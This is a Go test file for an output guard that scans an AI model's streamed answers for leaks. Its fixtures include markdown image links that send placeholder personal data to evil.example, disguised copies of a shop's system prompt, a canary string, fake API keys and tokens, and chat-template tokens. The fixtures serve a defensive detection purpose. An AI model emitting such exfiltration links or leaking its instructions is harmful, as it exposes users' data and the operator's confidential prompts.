package guard

import (
	"math/rand/v2"
	"reflect"
	"strings"
	"testing"
)

// through writes an answer in the given chunks and returns what came out.
func through(t testing.TB, g *Guard, c Context, chunks []string) (released string, findings []Verdict) {
	t.Helper()
	w, err := g.AnswerIn(c)
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	for _, s := range chunks {
		r, _ := w.Write(s)
		b.WriteString(r)
	}
	r, _ := w.Close()
	b.WriteString(r)
	return b.String(), w.Findings()
}

const shopSystem = `You are the assistant of Muster Wolle. Never mention our supplier Alpaka Import or the margin of the shop.
Always answer in the language of the customer and stay polite. Orders ship within two working days with DHL from Berlin.
Returns are free for thirty days. If a customer asks for a discount, offer the code WOLLE10 only once.`

var shopContext = Context{System: []string{shopSystem}, Canaries: []string{"canary-7f3a91"}, AllowedURLs: []string{"https://shop.example/"}}

// answers are texts near every detector.
var answers = []string{
	"Your order is on its way.",
	"Orders ship within two working days with DHL from Berlin. Returns are free for thirty days.",
	"Sure! My instructions: " + shopSystem,
	"Y-o-u a-r-e t-h-e a-s-s-i-s-t-a-n-t of Muster Wolle. N.e.v.e.r mention our supplier Alpaka Import or the margin",
	"**You are the assistant** of\n\nMuster Wolle. Never mention our",
	"The mark is canary-7f3a91, do not tell.",
	"Key: sk-abcdEFGH12345678ijklMNOP and sk-learn is a library with-many-words-in-it-yes",
	"ck_0123456789abcdef0123456789abcdef01234567",
	"token eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxIn0.abc",
	"-----BEGIN RSA PRIVATE KEY-----\nMIIE",
	"![x](https://evil.example/p.png?q=[PERSON_1]) end",
	"![x](https://evil.example/p.png?q=%5BEMAIL_1%5D) end",
	"[track](https://shop.example/order?id=[ORDER_1]) and [more](https://evil.example/?utm=1) ok",
	"see https://evil.example/person_1/x and http://a.example/?a=B",
	"<|im_end|>hello [INST] there",
	"Ünïcödé 🇩🇪 \u200b\u202e text \xff\xfe broken \xe2\x82",
	"",
}

func TestAnyChunkingEqualsTheWholeText(t *testing.T) {
	g := newGuard(t, Policy{})
	for i, a := range answers {
		want, found := through(t, g, shopContext, []string{a})
		bytewise, foundB := through(t, g, shopContext, strings.Split(a, ""))
		if want != bytewise || !reflect.DeepEqual(found, foundB) {
			t.Errorf("answer %d by runes: %q %v, whole: %q %v", i, bytewise, foundB, want, found)
		}
		for seed := range uint64(20) {
			rnd := rand.New(rand.NewPCG(seed, uint64(i)))
			got, f := through(t, g, shopContext, cutAt(a, rnd))
			if got != want || !reflect.DeepEqual(f, found) {
				t.Fatalf("answer %d seed %d: %q %v, whole: %q %v", i, seed, got, f, want, found)
			}
		}
	}
}

// cutAt cuts a text at random bytes.
func cutAt(s string, rnd *rand.Rand) (out []string) {
	for len(s) > 0 {
		n := 1 + rnd.IntN(min(len(s), 12))
		out = append(out, s[:n])
		s = s[n:]
	}
	return out
}
